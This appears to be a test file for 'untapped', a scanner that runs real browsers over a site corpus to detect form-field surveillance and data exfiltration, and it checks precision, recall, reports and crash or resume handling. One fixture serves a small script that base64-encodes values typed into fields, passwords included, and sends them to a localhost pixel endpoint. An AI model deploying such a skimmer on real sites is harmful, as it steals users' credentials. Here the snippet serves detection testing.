// Issue 6: `untapped scan` run as a researcher runs it (the CLI, as a child
// process) over the bundled corpus, in real Chromium and Firefox: verdicts
// against the corpus's ground truth (precision and recall printed and
// asserted), the reports, a browser killed mid-scan, Ctrl-C and resume.
import { describe, expect, it } from 'vitest';
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { join } from 'node:path';
import { KINDS } from './env';
import { useTempDirs } from '../helpers/temp-dirs';

const CLI = 'scanner/bin/untapped.mjs';

const tempDir = useTempDirs();
const truth = JSON.parse(readFileSync('scanner/corpus/ground-truth.json', 'utf8')) as {
  sites: Record<string, { surveillance: boolean; exfiltration: boolean; protectStopsExfiltration: boolean | null }>;
};

interface Rec {
  key: string; target: string; url: string; status: string; browser: string; schemaVersion: number; score: number | null; grade: string | null;
  verdict: { surveillance: boolean; exfiltration: boolean; protectStopsExfiltration: boolean | null; exfiltrationProtected: boolean | null; thirdPartyOrigins: string[] } | null;
  modes: Record<string, { finalUrl: string | null; fields: { kind: string }[]; exfil: { canary: string; encoding: string; source: string; channel: string }[] }>;
}

function run(args: string[]): { child: ChildProcess; stderr: () => string; exit: Promise<number | null> } {
  const child = spawn(process.execPath, [CLI, ...args], { env: { ...process.env }, stdio: ['ignore', 'pipe', 'pipe'] });
  let err = '';
  child.stderr!.on('data', (d) => { err += String(d); });
  child.stdout!.on('data', (d) => { err += String(d); });
  const exit = new Promise<number | null>((ok) => child.on('exit', (code, signal) => ok(code ?? (signal ? 128 : null))));
  return { child, stderr: () => err, exit };
}

/** Every line must be a whole record: the file stays valid whatever happened. */
function readRecords(dir: string): Rec[] {
  const text = readFileSync(join(dir, 'results.jsonl'), 'utf8');
  expect(text === '' || text.endsWith('\n')).toBe(true);
  return text.split('\n').filter((l) => l !== '').map((l) => JSON.parse(l) as Rec);
}

async function until(what: string, cond: () => boolean, timeout: number): Promise<void> {
  const end = Date.now() + timeout;
  while (!cond()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 200));
  }
}

const countLines = (dir: string) => (existsSync(join(dir, 'results.jsonl')) ? readFileSync(join(dir, 'results.jsonl'), 'utf8').split('\n').filter(Boolean).length : 0);

/** Direct children of `pid` whose command is `name`-ish (the browser's main process). */
function childBrowsers(pid: number, kind: string): number[] {
  const out: number[] = [];
  for (const p of readdirSync('/proc')) {
    if (!/^\d+$/.test(p)) continue;
    let stat = '';
    try {
      stat = readFileSync(`/proc/${p}/stat`, 'utf8');
    } catch {
      continue; // exited while listing
    }
    const comm = stat.slice(stat.indexOf('(') + 1, stat.lastIndexOf(')'));
    const ppid = Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
    if (ppid === pid && (kind === 'chromium' ? /chrom/i.test(comm) : /firefox/i.test(comm))) out.push(Number(p));
  }
  return out;
}

function score(label: string, pairs: { predicted: boolean; actual: boolean }[]) {
  const tp = pairs.filter((p) => p.predicted && p.actual).length;
  const fp = pairs.filter((p) => p.predicted && !p.actual).length;
  const fn = pairs.filter((p) => !p.predicted && p.actual).length;
  const precision = tp + fp === 0 ? 1 : tp / (tp + fp);
  const recall = tp + fn === 0 ? 1 : tp / (tp + fn);
  console.log(`${label}: precision ${precision.toFixed(2)} recall ${recall.toFixed(2)} (tp ${tp}, fp ${fp}, fn ${fn}, n ${pairs.length})`);
  return { precision, recall };
}

describe.each(KINDS)('untapped scan in %s', (kind) => {
  it('scans the bundled corpus in both modes, matches its ground truth and writes the reports', async () => {
    const out = tempDir(`untapped-scan-${kind}-`);
    const t0 = Date.now();
    const r = run(['scan', '--out', out, '--browser', kind, '--concurrency', '1']);
    expect(await r.exit, r.stderr()).toBe(0);
    const minutes = (Date.now() - t0) / 60_000;
    const recs = readRecords(out);
    const sites = Object.keys(truth.sites);
    expect(recs.map((x) => x.target).sort()).toEqual(sites.map((s) => `corpus:/${s}/`));
    for (const x of recs) {
      expect(x, x.key).toMatchObject({ schemaVersion: 1, browser: kind, status: 'ok' });
      // The extension's score is there (src/shared/score.ts) and graded.
      expect(x.score, x.key).toBeTypeOf('number');
      expect(x.grade, x.key).toMatch(/^[A-F]$/);
      expect(x.modes.monitor!.fields.length, `${x.key} filled fields`).toBeGreaterThan(0);
    }
    const byId = (x: Rec) => /site-\d+/.exec(x.target)![0];
    const surv = score(`${kind} surveillance`, recs.map((x) => ({ predicted: x.verdict!.surveillance, actual: truth.sites[byId(x)]!.surveillance })));
    const exf = score(`${kind} exfiltration`, recs.map((x) => ({ predicted: x.verdict!.exfiltration, actual: truth.sites[byId(x)]!.exfiltration })));
    const known = recs.filter((x) => truth.sites[byId(x)]!.protectStopsExfiltration !== null);
    const prot = score(`${kind} protect stops exfiltration`, known.map((x) => ({ predicted: x.verdict!.protectStopsExfiltration === true, actual: truth.sites[byId(x)]!.protectStopsExfiltration === true })));
    for (const m of [surv, exf, prot]) {
      expect(m.precision).toBe(1);
      expect(m.recall).toBe(1);
    }
    // Each encoding the corpus uses was recognised where it is used.
    const enc = (id: string) => recs.find((x) => x.target === `corpus:/${id}/`)!.modes.monitor!.exfil.map((h) => h.encoding);
    expect(enc('site-04')).toContain('base64');
    expect(enc('site-06')).toContain('sha256');
    expect(enc('site-08')).toEqual(expect.arrayContaining(['md5', 'sha1']));
    expect(enc('site-11')).toContain('urlencoded');
    // The WebSocket leak: seen by the browser in Chromium (CDP); Firefox's BiDi has no
    // frame events, so there only the loopback server's log sees it.
    const ws = recs.find((x) => x.target === 'corpus:/site-10/')!.modes.monitor!.exfil.filter((h) => h.channel === 'websocket');
    expect(ws.some((h) => h.source === 'server-log')).toBe(true);
    expect(ws.some((h) => h.source === 'browser')).toBe(kind === 'chromium');
    // Reports: one CSV row per record, a self-contained HTML file with charts.
    const csv = readFileSync(join(out, 'summary.csv'), 'utf8').trim().split('\n');
    expect(csv).toHaveLength(recs.length + 1);
    const html = readFileSync(join(out, 'report.html'), 'utf8');
    expect((html.match(/<svg/g) ?? []).length).toBeGreaterThanOrEqual(4);
    expect(html).not.toMatch(/<script|<link /);
    const runStats = JSON.parse(readFileSync(join(out, 'runs.jsonl'), 'utf8').trim().split('\n').pop()!);
    console.log(`${kind} throughput: ${runStats.sitesPerMinute} sites/min (${(recs.length / minutes).toFixed(1)} incl. start-up), peak RSS ${runStats.peakRssMB} MB (${runStats.rssScope})`);
    expect(runStats.scanned).toBe(sites.length);
  }, 600_000);

  it('recovers from the browser being killed mid-scan, stops cleanly on Ctrl-C and resumes', async () => {
    const out = tempDir(`untapped-resume-${kind}-`);
    const args = ['scan', '--out', out, '--browser', kind, '--limit', '4', '--modes', 'monitor,protect', '--concurrency', '1'];
    const first = run(args);
    await until('the first result', () => countLines(out) >= 1, 240_000);
    const victims = childBrowsers(first.child.pid!, kind);
    expect(victims.length).toBe(1);
    process.kill(victims[0]!, 'SIGKILL');
    await until('a result after the crash', () => countLines(out) >= 2, 240_000);
    first.child.kill('SIGINT');
    expect(await first.exit, first.stderr()).toBe(130);
    expect(first.stderr()).toMatch(/relaunching/);
    expect(first.stderr()).toMatch(/SIGINT: stopping/);
    const before = readRecords(out);
    expect(before.length).toBeGreaterThanOrEqual(2);
    expect(before.length).toBeLessThan(4);
    // The site in flight when the browser died was retried, not lost or failed.
    expect(before.every((x) => x.status === 'ok')).toBe(true);
    // Reports were written for what was done.
    expect(readFileSync(join(out, 'summary.csv'), 'utf8').trim().split('\n')).toHaveLength(before.length + 1);

    const second = run(args);
    expect(await second.exit, second.stderr()).toBe(0);
    expect(second.stderr()).toContain(`resuming: ${before.length} site/browser pair(s) already`);
    const after = readRecords(out);
    expect(after).toHaveLength(4);
    expect(new Set(after.map((x) => x.key)).size).toBe(4);
    expect(after.slice(0, before.length)).toEqual(before);
    expect(after.every((x) => x.status === 'ok')).toBe(true);
  }, 600_000);

  it('scans a URL list: a site that hangs the page times out, the next one is scanned and its leak found by the browser alone', async () => {
    // A site of our own, outside the corpus: no server log to fall back on.
    const srv = createServer((req, res) => {
      const port = (srv.address() as { port: number }).port;
      res.setHeader('content-type', req.url!.endsWith('.js') ? 'text/javascript' : 'text/html');
      if (req.url === '/hang/') {
        // Loads, then never yields the main thread again.
        res.end('<input type=password><script>addEventListener("load", () => setTimeout(() => { for (;;) {} }, 50))</script>');
      } else if (req.url === '/leak.js') {
        res.end('document.addEventListener("change", (e) => { new Image().src = "http://localhost:' + port + '/px?v=" + btoa(e.target.value); });');
      } else if (req.url === '/moved/') {
        res.writeHead(302, { location: `http://127.0.0.1:${port}/ok/` });
        res.end();
      } else if (req.url === '/ok/') {
        res.end('<label>Password <input name=pw type=password></label><script src="http://localhost:' + port + '/leak.js"></script>');
      } else {
        res.statusCode = 204;
        res.end();
      }
    });
    await new Promise<void>((ok) => srv.listen(0, '127.0.0.1', ok));
    const port = (srv.address() as { port: number }).port;
    // The same handler as another site, which redirects to the first.
    const other = createServer((req, res) => srv.emit('request', req, res));
    await new Promise<void>((ok) => other.listen(port, '127.0.0.2', ok));
    try {
      const out = tempDir(`untapped-list-${kind}-`);
      const list = join(out, 'sites.txt');
      writeFileSync(list, `# three sites\nhttp://127.0.0.1:${port}/hang/\nhttp://127.0.0.1:${port}/ok/   # leaks the password\nhttp://127.0.0.2:${port}/moved/\n`);
      const r = run(['scan', list, '--out', out, '--browser', kind, '--timeout', '8', '--modes', 'monitor']);
      expect(await r.exit, r.stderr()).toBe(0);
      const recs = readRecords(out);
      expect(recs.map((x) => [x.url.replace(String(port), 'PORT'), x.status])).toEqual([
        ['http://127.0.0.1:PORT/hang/', 'timeout'],
        ['http://127.0.0.1:PORT/ok/', 'ok'],
        ['http://127.0.0.2:PORT/moved/', 'ok'],
      ]);
      const ok = recs[1]!;
      expect(ok.verdict).toMatchObject({ surveillance: true, exfiltration: true, exfiltrationProtected: null });
      expect(ok.modes.monitor!.exfil.map((h) => [h.canary, h.encoding, h.source])).toContainEqual(['password', 'base64', 'browser']);
      expect(ok.modes.protect).toBeUndefined();
      // Redirected to another site: the tallies read are the landing site's, where the hook is.
      const moved = recs[2]!;
      expect(moved.modes.monitor!.finalUrl).toBe(`http://127.0.0.1:${port}/ok/`);
      expect(moved.verdict).toMatchObject({ hooks: true, exfiltration: true, thirdPartyOrigins: [`http://localhost:${port}`] });
      expect(r.stderr()).toContain('redirects to');
    } finally {
      await new Promise((ok) => other.close(ok));
      await new Promise((ok) => srv.close(ok));
    }
  }, 300_000);
});
